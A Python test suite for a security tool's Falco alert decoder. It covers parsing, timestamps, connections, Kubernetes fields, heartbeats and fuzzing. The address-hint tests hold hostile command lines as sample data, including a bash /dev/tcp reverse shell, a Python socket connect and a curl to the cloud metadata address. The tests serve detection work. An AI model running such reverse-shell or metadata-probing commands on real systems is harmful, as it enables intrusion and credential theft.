"""Falco's JSON becomes an alert, whatever the wrapping, and nothing in it is believed too much."""

from __future__ import annotations

import base64
import json
import runpy
from ipaddress import ip_address
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from tripshark.errors import BadInput
from tripshark.formats import falco
from tripshark.model.alert import Connection, Endpoint, Priority, Proto

EVENTS = Path(__file__).parents[1] / "falco-events"
FUZZ = runpy.run_path(str(Path(__file__).parents[1] / "fuzz" / "alerts.py"))["target"]


def event(fields: dict[str, Any] | None = None, **top: Any) -> bytes:
    whole = {
        "rule": "R",
        "priority": "Notice",
        "source": "syscall",
        "time": "2026-01-21T12:53:20.123456789Z",
        "output_fields": fields or {},
    } | top
    return json.dumps({key: value for key, value in whole.items() if value != "LEFT OUT"}).encode()


def connection(**fields: Any) -> Connection | None:
    named = {key.replace("_", "."): value for key, value in fields.items()}
    return falco.decode(event(named)).connection


def at(address: str | None, port: int | None = None) -> Endpoint:
    return Endpoint(None if address is None else ip_address(address), port)


def hints(cmdline: str, **fields: Any) -> list[tuple[str, int | None]]:
    alert = falco.decode(event({"proc.cmdline": cmdline} | fields))
    return [(str(hint.address), hint.port) for hint in alert.hints]


# ------------------------------------------------------------------------------- wrappings


def test_a_raw_event_keeps_everything_it_says() -> None:
    """Body of a real Falco 0.44.1."""
    alert = falco.decode((EVENTS / "08-full-c2-tuple.body.json").read_bytes())
    assert alert.rule == "C2 tuple"
    assert alert.priority is Priority.CRITICAL
    assert alert.time_ns == 1795439714374569164
    assert (alert.source, alert.hostname, alert.tags) == ("syscall", "vm", ("network",))
    assert alert.container_id == "d732c48fd7f5"
    assert alert.pid == 28296
    assert alert.connection == Connection(
        client=at("203.0.113.10", 35438), server=at("203.0.113.66", 4444), proto=Proto.TCP
    )
    assert alert.fields["evt.res"] == "EINPROGRESS"
    assert not alert.is_internal
    assert falco.heartbeat(alert) is None


def test_falcosidekick_adds_a_uuid_and_go_may_write_keys_in_any_case() -> None:
    """The body of its webhook and Talon outputs, as Go encodes it."""
    body = (
        b'{"uuid":"6c2d5d66-2f3e-4a43-8d2e-6f0a4f0f3f0e","Output":"x \\u003e y","Priority":"warning",'
        b'"Rule":"R","Time":"2026-01-21T12:53:20.5Z","Output_Fields":{"team":"red"},'
        b'"Source":"syscalls","Tags":["a",1],"Hostname":"n1"}\n'
    )
    alert = falco.decode(body, {"content-type": "application/json; charset=utf-8"})
    assert alert.uuid == "6c2d5d66-2f3e-4a43-8d2e-6f0a4f0f3f0e"
    assert alert.output == "x > y"
    assert alert.priority is Priority.WARNING
    assert (alert.tags, alert.fields["team"]) == (("a",), "red")
    assert falco.decode(b'{"RULE":"no",' + event()[1:]).rule == "R"


def test_a_binary_cloudevent_fills_gaps_from_its_headers() -> None:
    """The body wins where both speak."""
    headers = {
        "content-type": "application/json",
        "ce-specversion": "1.0",
        "ce-type": "falco.rule.output.v1",
        "ce-id": "42",
        "ce-rule": "from header",
        "ce-priority": "Alert",
        "ce-eventsource": "syscall",
        "ce-hostname": "n2",
        "ce-time": "2026-01-21T12:53:21Z",
    }
    assert falco.decode(event(), headers).rule == "R"
    alert = falco.decode(b"{}", headers)
    assert (alert.rule, alert.priority, alert.hostname) == ("from header", Priority.ALERT, "n2")
    assert (alert.uuid, alert.source) == ("42", "syscall")
    assert alert.time_ns == 1769000001_000000000


@pytest.mark.parametrize(
    "data",
    [
        {"data": json.loads(event())},
        {"data": event().decode()},
        {"data_base64": base64.b64encode(event()).decode()},
    ],
)
@pytest.mark.parametrize("content_type", ["application/cloudevents+json", "application/json"])
def test_a_structured_cloudevent_is_unwrapped(data: dict[str, Any], content_type: str) -> None:
    """Data as an object, as text and as base64."""
    body = {"specversion": "1.0", "id": "7", "source": "https://falco.org"} | data
    alert = falco.decode(json.dumps(body).encode(), {"content-type": content_type})
    assert (alert.rule, alert.uuid, alert.source) == ("R", "7", "syscall")


@pytest.mark.parametrize(
    ("body", "content_type", "where"),
    [
        (b"13:15:03.3: Notice A shell", "text/plain", "body"),
        (b"13:15:03.3: Notice A shell", "", "body"),
        (b'{"rule":', "application/json", "body"),
        (b"[]", "application/json", "body"),
        (b"7", "application/json", "body"),
        (b"[" * 100_000, "", "body"),
        (b'{"a":' * 40 + b"1" + b"}" * 40, "", "body"),
        (b"[" * 40 + b"1" + b"]" * 40, "", "body"),
        (b"[]", "application/cloudevents-batch+json", "content-type"),
        (b'{"specversion":"1.0","data":7}', "", "data"),
        (b'{"specversion":"1.0","data_base64":"%%%"}', "", "data_base64"),
        (event(rule="LEFT OUT"), "", "rule"),
        (event(rule=""), "", "rule"),
        (event(rule=7), "", "rule"),
        (b'{"alerts":[]}', "", "rule"),
        (event(priority="LEFT OUT"), "", "priority"),
        (event(priority="Loud"), "", "priority"),
        (event(time="LEFT OUT"), "", "time"),
        (event(time="yesterday"), "", "time"),
        (event(time="2026-02-30T00:00:00Z"), "", "time"),
        (event(time="1969-12-31T00:00:00Z"), "", "time"),
        (event(output_fields=[]), "", "output_fields"),
    ],
)
def test_what_is_no_event_is_refused_with_a_hint(
    body: bytes, content_type: str, where: str
) -> None:
    """One documented error, saying where and what to do."""
    with pytest.raises(BadInput) as refusal:
        falco.decode(body, {"content-type": content_type} if content_type else {})
    assert refusal.value.where == where
    assert refusal.value.hint


def test_text_instead_of_json_names_the_setting_to_change() -> None:
    """Falco without json_output sends text/plain."""
    with pytest.raises(BadInput, match="json_output: true"):
        falco.decode(b"12:00:00.1: Notice hello", {"content-type": "text/plain"})


def test_an_event_without_output_fields_is_still_an_event() -> None:
    """json_include_output_fields_property can be off."""
    assert falco.decode(event(output_fields=None)).fields == {}
    assert falco.decode(event(output_fields="LEFT OUT", message="m", output="")).output == "m"


# ------------------------------------------------------------------------------- time, priority


@pytest.mark.parametrize(
    ("fields", "time", "expected"),
    [
        ({"evt.time": 1795439714374569164}, "x", 1795439714374569164),
        ({"evt.time.iso8601": 1769000000123456789}, "x", 1769000000123456789),
        ({"evt.time": "1769000000123456789"}, "x", 1769000000123456789),
        ({"evt.time": 1.769e18}, "x", 1769000000000000000),
        ({"evt.time": 1.5}, "2026-01-21T12:53:20Z", 1769000000_000000000),
        ({"evt.time": True}, "2026-01-21T12:53:20Z", 1769000000_000000000),
        ({"evt.time": 10**30}, "2026-01-21T12:53:20Z", 1769000000_000000000),
        ({"evt.time": "12:53:20.123"}, "2026-01-21T12:53:20.1Z", 1769000000_100000000),
        ({}, "2026-01-21T12:53:20.123456789Z", 1769000000_123456789),
        ({}, "2026-01-21T12:53:20.123456789123Z", 1769000000_123456789),
        ({}, "2026-01-21t14:53:20.123+02:00", 1769000000_123000000),
        ({}, "2026-01-21 10:23:20,5-0230", 1769000000_500000000),
        ({}, "2026-01-21T12:53:20", 1769000000_000000000),
        ({}, "2016-12-31T23:59:60Z", 1483228800_000000000),
    ],
)
def test_t0_is_the_events_own_time(fields: dict[str, Any], time: str, expected: int) -> None:
    """Integer nanoseconds first, under either key; else RFC 3339 of any precision and offset."""
    assert falco.decode(event(fields, time=time)).time_ns == expected


@pytest.mark.parametrize("word", ["Informational", "INFO", "info", " informational "])
def test_priorities_are_read_in_any_case(word: str) -> None:
    """Falco's rule files say `Info`, its output `Informational`."""
    priority = falco.decode(event(priority=word)).priority
    assert priority is Priority.INFORMATIONAL
    assert priority.title == "Informational"


# ------------------------------------------------------------------------------- connections


@pytest.mark.parametrize(
    ("fields", "client", "server", "listening"),
    [
        (
            {"fd_name": "10.0.0.1:5->10.0.0.2:80"},
            at("10.0.0.1", 5),
            at("10.0.0.2", 80),
            False,
        ),
        (
            {"fd_name": "fd00::1:51000->2001:db8::1:443"},
            at("fd00::1", 51000),
            at("2001:db8::1", 443),
            False,
        ),
        (
            {"fd_name": "::ffff:10.0.0.1:5->10.0.0.2:80"},
            at("10.0.0.1", 5),
            at("10.0.0.2", 80),
            False,
        ),
        ({"fd_name": "fe80::1%eth0:5->fe80::2:80"}, at("fe80::1", 5), at("fe80::2", 80), False),
        ({"fd_name": "0.0.0.0:0->10.0.0.2:80"}, at(None), at("10.0.0.2", 80), False),
        ({"fd_name": "0.0.0.0:8080"}, at(None), at(None, 8080), True),
        ({"fd_name": ":::8080"}, at(None), at(None, 8080), True),
        ({"fd_name": "10.0.0.9:8080"}, at(None), at("10.0.0.9", 8080), True),
        (
            {"fd_cip": "10.0.0.1", "fd_cport": "5", "fd_sip": "10.0.0.2", "fd_sport": 80},
            at("10.0.0.1", 5),
            at("10.0.0.2", 80),
            False,
        ),
        (
            {"fd_name": "1.1.1.1:1->10.0.0.2:80", "fd_sip": "2.2.2.2", "fd_sport": 81.0},
            at("1.1.1.1", 1),
            at("2.2.2.2", 81),
            False,
        ),
    ],
)
def test_connections_come_from_what_tells_client_and_server_apart(
    fields: dict[str, Any], client: Endpoint, server: Endpoint, listening: bool
) -> None:
    """`fd.cip` and its kin, else `fd.name` split at the last colon of each side."""
    assert connection(**fields) == Connection(client=client, server=server, listening=listening)


@pytest.mark.parametrize(
    "fields",
    [
        {},
        {"fd_name": ""},
        {"fd_name": None},
        {"fd_name": "<NA>"},
        {"fd_name": "/etc/passwd"},
        {"fd_name": "0.0.0.0:0"},
        {"fd_name": "10.0.0.1:5->example.com:80"},
        {"fd_name": "10.0.0.1:5->10.0.0.2:99999"},
        {"fd_name": "10.0.0.1:x->10.0.0.2:80"},
        {"fd_name": "10.0.0.1:5->10.0.0.2:80", "fd_type": "file"},
        {"fd_name": "10.0.0.1:5->10.0.0.2:80", "fd_typechar": "f"},
        {"fd_lip": "10.0.0.1", "fd_lport": 5, "fd_rip": "10.0.0.2", "fd_rport": 80},
        {"fd_sip": "10.0.0.2"},
        {"fd_sip": "no address", "fd_sport": 80},
    ],
)
def test_what_cannot_be_trusted_is_no_connection(fields: dict[str, Any]) -> None:
    """Above all not the four fields that Falco swaps."""
    assert connection(**fields) is None


@pytest.mark.parametrize("junk", ["fd.l4proto", "<NA>", None, "raw", 6])
def test_a_protocol_falco_does_not_know_is_unknown(junk: Any) -> None:
    """One upstream rule lacks a percent sign and prints the field's own name."""
    found = connection(fd_name="10.0.0.1:5->10.0.0.2:80", fd_l4proto=junk)
    assert found is not None
    assert found.proto is None


@pytest.mark.parametrize(
    ("value", "container", "on_host"),
    [
        ("host", None, True),
        ("41ae0eb6f163", "41ae0eb6f163", False),
        ("", None, False),
        ("../../etc", None, False),
        (None, None, False),
    ],
)
def test_the_container_is_named_by_hexadecimal_digits_or_is_the_host(
    value: str | None, container: str | None, on_host: bool
) -> None:
    """Everything else is hostile."""
    alert = falco.decode(event({"container.id": value, "proc.pid": "77"}))
    assert (alert.container_id, alert.on_host, alert.pid) == (container, on_host, 77)


@pytest.mark.parametrize("pid", [0, -1, 2**31, True, "x", None, 1.5, [1]])
def test_an_impossible_pid_is_no_pid(pid: Any) -> None:
    """It will be looked up in /proc."""
    assert falco.decode(event({"proc.pid": pid})).pid is None


@pytest.mark.parametrize(
    ("fields", "expected"),
    [
        ({"k8s.ns.name": "shop", "k8s.pod.name": "web"}, ("shop", "web")),
        ({"k8s.ns.name": None, "k8s.pod.name": "<NA>"}, (None, None)),
        (
            {
                "ka.target.resource": "pods",
                "ka.target.namespace": "shop",
                "ka.target.name": "web",
                "ka.target.subresource": "exec",
            },
            ("shop", "web"),
        ),
        (
            {
                "ka.target.resource": "pods",
                "ka.target.namespace": "shop",
                "ka.resp.name": "web-x2k8p",
            },
            ("shop", "web-x2k8p"),
        ),
        (
            {
                "ka.target.resource": "deployments",
                "ka.target.namespace": "shop",
                "ka.target.name": "web",
            },
            (None, None),
        ),
    ],
)
def test_the_pod_is_named_by_its_metadata_or_by_an_audit_event_about_pods(
    fields: dict[str, Any], expected: tuple[str | None, str | None]
) -> None:
    """The target of another resource is not a pod, whatever it is called."""
    alert = falco.decode(event(fields, source="k8s_audit"))
    assert (alert.namespace, alert.pod) == expected


# ------------------------------------------------------------------------------- hints


@pytest.mark.parametrize(
    ("cmdline", "expected"),
    [
        ("nc -z 203.0.113.66 4444", [("203.0.113.66", 4444)]),
        ("nc 203.0.113.66:4444", [("203.0.113.66", 4444)]),
        ("curl http://169.254.169.254/latest/", [("169.254.169.254", None)]),
        ("curl http://203.0.113.9/24", [("203.0.113.9", None)]),
        ("curl https://[2001:db8::1]:8443/x", [("2001:db8::1", 8443)]),
        ("ping6 2001:db8::1", [("2001:db8::1", None)]),
        ("bash -i >& /dev/tcp/198.51.100.9/4444 0>&1", [("198.51.100.9", 4444)]),
        ("bash -c echo > /dev/udp/203.0.113.66/53", [("203.0.113.66", 53)]),
        ("bash -c echo > /dev/tcp/2001:db8::1/53", [("2001:db8::1", 53)]),
        ('python3 -c s.connect(("2001:db8:66::66",4444))', [("2001:db8:66::66", 4444)]),
        ("a 10.0.0.1 b 10.0.0.1", [("10.0.0.1", None)]),
        ("a 10.0.0.1 10.0.0.2", [("10.0.0.1", None), ("10.0.0.2", None)]),
        ("nmap 10.0.0.0/8 192.0.2.1", []),
        ("ip route add 10.0.0.1/32", [("10.0.0.1", None)]),
        ("python3 -m http.server --bind 0.0.0.0", []),
        ("version 1.2.3.4.5 999.1.1.1 12:30:45 aa:bb:cc:dd:ee:ff std::vector", []),
        ("", []),
    ],
)
def test_command_lines_give_hints(cmdline: str, expected: list[tuple[str, int | None]]) -> None:
    """Addresses as tools and shells write them; a whole network gives none at all."""
    assert hints(cmdline) == expected


def test_a_command_line_cut_within_an_address_does_not_name_another() -> None:
    """Falcosidekick cuts long values and appends `[...]`."""
    assert hints("x 203.0.113.66 203.0.113.[...]") == [("203.0.113.66", None)]
    assert hints("x 203.0.113.66 203.0.113.6[...]") == [("203.0.113.66", None)]


def test_hints_are_bounded() -> None:
    """A long command line is no way to a long filter."""
    assert len(hints(" ".join(f"10.0.0.{n}" for n in range(1, 200)))) == falco.MAX_HINTS


def test_addresses_of_an_unusable_connection_are_hints() -> None:
    """`fd.rip` may be swapped: good enough to widen, not to narrow."""
    assert hints("x", **{"fd.sip": "203.0.113.1", "fd.rip": "203.0.113.2"}) == [
        ("203.0.113.1", None),
        ("203.0.113.2", None),
    ]
    assert hints("x", **{"fd.name": "10.0.0.1:5->10.0.0.2:80", "fd.rip": "203.0.113.2"}) == []


# ------------------------------------------------------------------------------- heartbeat


def test_the_metrics_of_falco_are_a_heartbeat() -> None:
    """A real snapshot of Falco 0.44.1."""
    path = EVENTS / "37-msgfield-falco-internal-metrics-snapshot.body.json"
    beat = falco.heartbeat(falco.decode(path.read_bytes()))
    assert beat is not None
    assert (beat.kind, beat.version, beat.hostname) == ("metrics", "0.44.1", "vm")
    assert beat.start_ns == 1795439846488069032
    assert (beat.events, beat.drops, beat.output_drops, beat.duration_s) == (105, 0, 0, 0)


def test_drops_are_told_with_counters_as_text() -> None:
    """A real drop event of Falco 0.44.1."""
    path = EVENTS / "38-msgfield-falco-internal-syscall-event-drop.body.json"
    beat = falco.heartbeat(falco.decode(path.read_bytes()))
    assert beat is not None
    assert (beat.kind, beat.events, beat.drops, beat.start_ns) == ("drops", 5179, 1, None)


def test_other_internal_events_are_heartbeats_too() -> None:
    """Falcosidekick's test rule is one."""
    beat = falco.heartbeat(falco.decode(event(source="internal", rule="Test rule")))
    assert beat is not None
    assert beat.kind == "other"


# ------------------------------------------------------------------------------- hostile


@settings(max_examples=300, deadline=None)
@given(st.one_of(st.binary(max_size=400), st.text(max_size=200).map(str.encode)))
@example(b'{"rule":"\\ud800","priority":"Info","time":"2026-01-01T00:00:00Z"}')
@example(b'"\\ud800"')
@example(b"\xff")
def test_any_bytes_are_an_alert_or_bad_input(data: bytes) -> None:
    """Nothing else comes out, and nothing that came out breaks what is decided from it."""
    FUZZ(data)


JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=30),
    lambda inner: (
        st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3)
    ),
    max_leaves=6,
)
KEYS = [
    "fd.name", "fd.sip", "fd.sport", "fd.cip", "fd.cport", "fd.rip", "fd.l4proto", "fd.type",
    "evt.time", "proc.cmdline", "proc.pid", "proc.name", "container.id", "k8s.pod.name", "ka.target.name",
]  # fmt: skip
ADDRESSES = st.ip_addresses().map(str) | st.sampled_from(
    ["0.0.0.0", "::", "::ffff:1.2.3.4", "<NA>"]
)
NAMES = st.tuples(ADDRESSES, st.integers(0, 70000), ADDRESSES, st.integers(0, 70000)).map(
    lambda four: f"{four[0]}:{four[1]}->{four[2]}:{four[3]}"
)


@settings(max_examples=300, deadline=None)
@given(
    st.dictionaries(st.sampled_from(KEYS), JSON_VALUES | ADDRESSES | NAMES, max_size=8),
    st.sampled_from(["syscall", "internal", "k8s_audit"]),
)
def test_any_values_in_the_right_places_are_survived(fields: dict[str, Any], source: str) -> None:
    """Every type under every key that is looked at."""
    FUZZ(event(fields, source=source))
